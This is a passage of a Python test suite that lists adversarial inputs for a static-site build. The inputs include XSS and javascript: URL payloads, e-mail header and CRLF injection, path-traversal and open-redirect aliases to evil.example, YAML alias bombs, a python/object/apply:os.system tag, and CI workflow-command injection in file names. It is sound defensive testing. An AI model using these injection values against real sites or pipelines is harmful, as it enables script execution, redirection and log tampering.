    _story("c7-partners-needed", 7, "a needed partner with HTML", transfer={**TRANSFER, "partners_needed": ["<img src=x onerror=alert('§M')>"]}),
    _story("c7-material-title", 7, "a material title with a script",
           transfer={**TRANSFER, "materials": [{"title": f"Plan {SCRIPT}", "url": "https://example.org/plan"}]}),
    _actor("c7-actor-name", 7, "an actor name closing the title element", in_title=True, name=f"Verein </title>{SCRIPT}"),
    _actor("c7-actor-short-name", 7, "a short name breaking out of an attribute", in_title=True, short_name=f"V {BREAK_ATTRIBUTE}"),
    _actor("c7-actor-legal-form", 7, "a legal form with an SVG handler", legal_form="<svg onload=alert('§M')>"),
    _actor("c7-actor-city", 7, "a city with HTML", address={"street": "Weg 1", "postcode": "01067", "city": "<img src=x onerror=alert('§M')>"}),
    _actor("c7-actor-phone", 7, "a phone number breaking out of its tel: link", phone=f"+49 351 1{BREAK_ATTRIBUTE}"),
    _page("c7-page-title", 7, "a page title closing the title element", in_title=True, title=f"Seite </title>{SCRIPT}"),
    _page("c7-page-summary", 7, "a page summary breaking out of the meta description", summary=f"Kurz {BREAK_ATTRIBUTE}"),
]
# Links and addresses: the build may refuse them instead of containing them, so each gets a build of its own.
URLS = [
    _story("c7-website-javascript", 7, "links.website with javascript:", build="own", links={"website": "javascript:alert('§M')"}),
    _story("c7-video-spaces", 7, "links.video with blanks before javascript:", build="own", links={"video": "  JaVaScRiPt:alert('§M')"}),
    _story("c7-crowdfunding-tab", 7, "links.crowdfunding with a tab inside javascript:", build="own",
           links={"crowdfunding": "java\tscript:alert('§M')"}),
    _story("c7-website-data", 7, "links.website with a data:text/html URL", build="own",
           links={"website": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§M"}),
    _story("c7-website-quote", 7, "a website URL breaking out of its href", build="own",
           links={"website": "https://example.org/\" onmouseover=\"alert('§M')"}),
    _actor("c7-actor-website", 7, "an actor website with vbscript:", build="own", website="vbscript:msgbox('§M')"),
    _actor("c7-actor-social", 7, "a social profile with javascript:", build="own", social={"mastodon": "javascript:alert('§M')"}),
    _story("c7-material-url", 7, "a material URL with javascript:", build="own", transfer=_materials(url="javascript:alert('§M')")),
    _story("c7-mailto-bcc", 7, "a contact e-mail adding a Bcc header", build="own",
           contact={"name": "Anna", "email": "kontakt@example.org?bcc=opfer@example.org&subject=§M"}),
    _actor("c7-actor-email-crlf", 7, "an actor e-mail with CR LF and a Bcc header", build="own",
           email="kontakt@example.org\r\nBcc: opfer@example.org §M"),
    _actor("c7-actor-email-encoded", 7, "an actor e-mail with an encoded line break", build="own", email="kontakt@example.org%0ABcc:§M@example.org"),
    _story("c7-alias-workflow-command", 7, "an alias with a newline and a workflow command", build="own",
           aliases=["/alt/\n::error::§M"]),
    _story("c7-alias-dots", 7, "an alias with '..'", build="own", aliases=["/geschichten/../../§M/"]),
    _story("c7-alias-other-host", 7, "an alias //evil.example", build="own", aliases=["//evil.example/§M/"]),
    _story("c7-alias-backslash", 7, "an alias /\\evil.example (read as //)", build="own", aliases=["/\\evil.example/§M/"]),
    _story("c7-alias-spaces", 7, "an alias with spaces", build="own", aliases=["/alte adresse §M/"]),
    _story("c7-alias-control", 7, "an alias with an escape sequence and a tab", build="own", aliases=["/alt\x1b[31m\t§M/"]),
    _story("c7-alias-redirect-rule", 7, "an alias adding a proxy rule to _redirects", build="own",
           aliases=[f"/alt/ /geschichten/beratung-per-video/ 301\r\n/* {EVIL}/§M 200"]),
    _story("c7-alias-percent", 7, "an alias with percent-encoded dots", build="own", aliases=["/%2e%2e/%2e%2e/§M/"]),
    _story("c7-alias-html", 7, "an alias with HTML in it", build="own", aliases=["/alt/<script>alert('§M')</script>/"]),
    _story("c7-alias-site-page", 7, "an alias taking the open data page", build="own", aliases=["/daten/"]),
    _actor("c7-actor-alias-newline", 7, "an actor alias with a newline and a redirect rule", build="own",
           aliases=[f"/akteure/alt/\n/* {EVIL}/§M 200"]),
]

TODAY = datetime.date.today()
AHEAD = (TODAY + datetime.timedelta(days=400)).isoformat()
DEEP_FLOW = "[" * 30000 + "]" * 30000
LIMITS = [
    _raw("c8-deep-flow", 8, "front-matter lists nested 30,000 deep (libyaml crashed)", STORY_YAML + f"facts: {DEEP_FLOW}\n", build="alone"),
    _raw("c8-deep-block", 8, "block lists nested 30,000 deep", STORY_YAML + "facts:\n  " + "- " * 30000 + "x\n", build="alone"),
    Attack("c8-deep-actor", 8, "an actor nested 30,000 deep", lambda s: s.write("actors/c8-deep-actor.yml", "name: x\nregions: " + DEEP_FLOW + "\n"),
           ("content/actors/c8-deep-actor.yml:N",), build="alone"),
    _raw("c8-nested-flow-25", 8, "flow lists nested 25 deep", STORY_YAML + "facts: " + "[" * 25 + "]" * 25 + "\n"),
    _raw("c8-nested-block-25", 8, "block mappings nested 25 deep",
         STORY_YAML + "facts:\n" + "".join("  " * (i + 1) + "a:\n" for i in range(25)) + "  " * 26 + "x\n"),
    _raw("c8-front-matter-70kb", 8, "a front matter of 70 KB",
         STORY_YAML + "facts:\n" + "".join(f"  - label: Kennzahl {i:05d} mit etwas Text\n    value: '{i}'\n" for i in range(1300)),
         names=("content/stories/c8-front-matter-70kb.md",)),
    Attack("c8-actor-70kb", 8, "an actor file of 70 KB",
           lambda s: s.write("actors/c8-actor-70kb.yml", yaml.safe_dump(actor_fields(description="Der Verein berät. " * 4000))),
           ("content/actors/c8-actor-70kb.yml",)),
    _raw("c8-alias-bomb", 8, "a billion-laughs YAML alias bomb",
         STORY_YAML + "x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
         + "".join(f"x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]\n" for i in range(1, 10)) + "facts: *a9\n", build="alone"),
    _raw("c8-date-2125", 8, "a date in 2125 (crashed the ZIP writer)", STORY_YAML.replace("date: 2025-03-14", "date: 2125-03-14")),
    _raw("c8-date-1899", 8, "a date in 1899", STORY_YAML.replace("date: 2025-03-14", "date: 1899-12-31")),
    _raw("c8-date-ahead", 8, "a date 13 months ahead", STORY_YAML.replace("date: 2025-03-14", f"date: {AHEAD}")),
    _raw("c8-modified-2125", 8, "modified in 2125", STORY_YAML + "modified: 2125-01-01\n"),
    _raw("c8-date-9999", 8, "the last day datetime knows", STORY_YAML.replace("date: 2025-03-14", "date: 9999-12-31")),
    _page("c8-page-modified-1899", 8, "a page modified in 1899", build="own", modified="1899-01-01"),
    _story("c8-costs-infinity", 8, "costs of .inf euros", build="own", transfer={**TRANSFER, "costs": {"min": 1, "max": float("inf")}}),
    _actor("c8-geo-nan", 8, "a map position that is not a number", build="own", geo={"lat": float("nan"), "lon": float("nan")}),
    _raw("c8-python-tag", 8, "a YAML tag that would run a command", STORY_YAML + "facts: !!python/object/apply:os.system ['touch angriff-§M']\n"),
    Attack("c8-actor-nested-25", 8, "an actor's social profiles nested 25 deep",
           lambda s: s.write("actors/c8-actor-nested-25.yml", yaml.safe_dump(actor_fields()) + "social:\n"
                             + "".join("  " * (i + 1) + "a:\n" for i in range(25)) + "  " * 26 + "x\n"),
           ("content/actors/c8-actor-nested-25.yml:N",)),
    _raw("c8-date-0001", 8, "the first day datetime knows", STORY_YAML.replace("date: 2025-03-14", "date: 0001-01-01")),
]

VALID_STORY = _story_text()
LOGS = [
    Attack("c9-filename-newline", 9, "a story file name with a newline and ::error::",
           lambda s: s.write("stories/c9-log\n::error::gefaelscht §M.md", VALID_STORY), ("content/stories/c9-log*",)),
    Attack("c9-filename-set-output", 9, "a story file name that is a ::set-output command",
           lambda s: s.write("stories/::set-output name=c9::§M.md", VALID_STORY), ("content/stories/::set-output*",)),
    Attack("c9-filename-carriage-return", 9, "an actor file name with a carriage return and ::add-mask::",
           lambda s: s.write("actors/c9-akteur\r::add-mask::§M.yml", yaml.safe_dump(actor_fields())), ("content/actors/c9-akteur*",)),
    Attack("c9-folder-newline", 9, "a folder name with a newline and ::error::",
           lambda s: s.write("stories/c9-ordner\n::error::§M/geschichte.md", VALID_STORY), ("content/stories/c9-ordner*",)),
    _story("c9-slug", 9, "a slug with a newline and ::error::", build="own", slug="neu\n::error::§M"),
    _story("c9-theme", 9, "a theme id with a newline and ::set-output", build="own", themes=["beratung\n::set-output name=x::§M"]),
    _story("c9-image-src", 9, "an image path with a newline and ::add-mask::", build="own",
           image={**IMAGE, "src": "images/x\n::add-mask::§M.jpg"}),
    _story("c9-date", 9, "a date with a newline and ::error::", build="own", date="2025-01-01\n::error::§M"),
    _story("c9-website", 9, "a website with a newline and ::error::", build="own", links={"website": "https://example.org/\n::error::§M"}),
    _story("c9-title", 9, "a title with a newline and ::warning::", build="own", in_title=True, title="Titel\n::warning::§M"),
    Attack("c9-key", 9, "a field name with a newline and ::error::",
           lambda s: s.story("c9-key", fields={**story_fields(), "titel\n::error::§M": "x"}), ("content/stories/c9-key.md:N",)),
    _actor("c9-actor-type", 9, "an actor type with a carriage return and ::warning::", build="own", type="initiative\r::warning::§M"),
]

ATTACKS: list[Attack] = [*HIDDEN, *FILES, *LINKS, *TRAVERSAL, *SVG_ATTACKS, *MARKUP, *FIELDS, *URLS, *LIMITS, *LOGS]
ATTACKS = [dataclasses.replace(a, build="alone") if a.id in ALONE_IDS else a for a in ATTACKS]
BY_ID = {attack.id: attack for attack in ATTACKS}
